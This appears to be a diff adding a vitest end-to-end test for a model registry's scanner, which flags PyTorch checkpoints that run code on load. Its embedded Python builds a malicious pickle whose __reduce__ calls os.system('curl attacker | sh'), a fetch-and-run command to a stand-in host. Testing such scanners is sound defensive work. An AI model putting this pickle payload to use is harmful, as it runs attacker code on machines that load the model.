@@ -1,0 +1,89 @@
+// Scanning on push, end to end: a ModelPack artifact whose PyTorch checkpoint imports os.system is
+// marked dangerous on its version (with the finding), a clean one clean, and a webhook receiver gets
+// `scan.completed`. The malicious checkpoint is written by Python's own pickle and zipfile modules.
+import { execFileSync } from 'node:child_process';
+import { mkdtempSync, readFileSync, rmSync } from 'node:fs';
+import { tmpdir } from 'node:os';
+import { join } from 'node:path';
+import { afterAll, beforeAll, describe, expect, it } from 'vitest';
+import { startBerth, type BerthProcess } from '../support/berth.js';
+import { descriptorOf, pushBlob, putManifest } from '../support/oci-client.js';
+import { apiClient, must } from '../support/registry-auth.js';
+import { toolAvailable } from '../support/tools.js';
+import { startReceiver, waitFor, type WebhookReceiver } from '../support/webhook-receiver.js';
+
+const python = toolAvailable('python3');
+const MAKE = String.raw`
+import collections, os, pickle, sys, zipfile
+class Evil:
+    def __reduce__(self):
+        return (os.system, ('curl attacker | sh',))
+with zipfile.ZipFile(sys.argv[1] + '/evil.bin', 'w') as z:
+    z.writestr('archive/data.pkl', pickle.dumps({'state_dict': collections.OrderedDict(), 'x': Evil()}, protocol=2))
+with zipfile.ZipFile(sys.argv[1] + '/clean.bin', 'w') as z:
+    z.writestr('archive/data.pkl', pickle.dumps(collections.OrderedDict(w=[1.0, 2.0]), protocol=2))
+`;
+
+let berth: BerthProcess;
+let receiver: WebhookReceiver;
+let dir: string;
+let api: ReturnType<typeof apiClient>;
+
+async function pushModel(repo: string, files: Record<string, Buffer | string>): Promise<string> {
+  const config = JSON.stringify({ descriptor: { name: repo }, config: { format: 'pytorch' }, modelfs: { type: 'layers', diffIds: [] } });
+  await pushBlob(berth.url, repo, config);
+  for (const bytes of Object.values(files)) await pushBlob(berth.url, repo, bytes);
+  const res = await putManifest(berth.url, repo, 'v1', {
+    schemaVersion: 2,
+    mediaType: 'application/vnd.oci.image.manifest.v1+json',
+    artifactType: 'application/vnd.cncf.model.manifest.v1+json',
+    config: descriptorOf(config, 'application/vnd.cncf.model.config.v1+json'),
+    layers: Object.entries(files).map(([path, bytes]) => descriptorOf(bytes, 'application/vnd.cncf.model.weight.v1.raw', { annotations: { 'org.cncf.model.filepath': path } })),
+  });
+  expect(res.status).toBe(201);
+  return res.headers.get('docker-content-digest')!;
+}
+
+async function scanOf(model: string): Promise<Record<string, unknown>> {
+  let properties: Record<string, unknown> = {};
+  for (let i = 0; i < 300 && properties['berth.scan.status'] === undefined; i++) {
+    properties = (await must(api.get(`/api/v1/models/${model}/versions/v1`), 200)).body.properties;
+    if (properties['berth.scan.status'] === undefined) await new Promise((r) => setTimeout(r, 50));
+  }
+  return properties;
+}
+
+describe.runIf(python)('scanning pushed models', () => {
+  beforeAll(async () => {
+    dir = mkdtempSync(join(tmpdir(), 'berth-scan-'));
+    execFileSync('python3', ['-c', MAKE, dir]);
+    receiver = await startReceiver();
+    berth = await startBerth({ env: { BERTH_WEBHOOK_POLL_MS: '50' } });
+    api = apiClient(berth.url);
+    await must(api.post('/api/v1/system/webhooks', { url: receiver.url, events: ['scan.completed'] }), 201);
+  });
+  afterAll(async () => {
+    await berth.dispose();
+    await receiver.close();
+    rmSync(dir, { recursive: true, force: true });
+  });
+
+  it('marks a version whose checkpoint would run os.system on load as dangerous, naming the import', async () => {
+    const digest = await pushModel('team/evil', { 'pytorch_model.bin': readFileSync(join(dir, 'evil.bin')), 'model.safetensors': 'not a pickle', 'README.md': '# evil' });
+    const properties = await scanOf('team/evil');
+    expect(properties).toMatchObject({ 'berth.scan.status': 'dangerous', 'berth.scan.files': 1 });
+    expect(JSON.parse(String(properties['berth.scan.findings']))).toEqual([
+      { path: 'pytorch_model.bin', status: 'dangerous', findings: [{ module: 'posix', name: 'system', severity: 'dangerous', entry: 'archive/data.pkl' }] },
+    ]);
+    await waitFor(() => receiver.received.some((h) => h.json?.event === 'scan.completed' && h.json.event_data.model === 'team/evil'), 'the scan event');
+    const event = receiver.received.find((h) => h.json.event_data.model === 'team/evil')!.json;
+    expect(event).toMatchObject({ type: 'SCANNING_COMPLETED', project: 'team', event_data: { version: 'v1', digest, status: 'dangerous', files: 1, findings: 1 } });
+  });
+
+  it('marks a version with only a safe checkpoint clean, and one with nothing to scan clean with zero files', async () => {
+    await pushModel('team/clean', { 'pytorch_model.bin': readFileSync(join(dir, 'clean.bin')) });
+    expect(await scanOf('team/clean')).toMatchObject({ 'berth.scan.status': 'clean', 'berth.scan.files': 1, 'berth.scan.findings': '[]' });
+    await pushModel('team/st', { 'model.safetensors': 'tensors', 'config.json': '{}' });
+    expect(await scanOf('team/st')).toMatchObject({ 'berth.scan.status': 'clean', 'berth.scan.files': 0 });
+  });
+});
